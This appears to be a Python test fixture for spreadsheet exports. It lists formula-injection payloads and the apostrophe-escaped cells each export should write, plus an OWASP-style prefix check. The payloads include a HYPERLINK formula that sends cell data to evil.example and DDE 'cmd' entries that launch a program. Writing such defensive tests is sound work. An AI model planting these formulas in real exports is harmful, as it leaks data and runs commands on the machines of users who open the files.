"""What a hostile customer may type into a name, a note or a survey answer, and what every export must write.

Shared by the tests of each export, so that all of them are fed the same payloads.
"""

# typed -> the cell every export writes for it (an apostrophe makes a spreadsheet read text)
FORMULAS = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\tcalc": "'\tcalc",
    "\r=1+1": "'\r=1+1",
    " =1+1": "' =1+1",
    "بد بود; =1+1": "بد بود; '=1+1",
}


def opens_a_formula(cell: str) -> bool:
    """OWASP's test: a cell must not begin with any of these."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
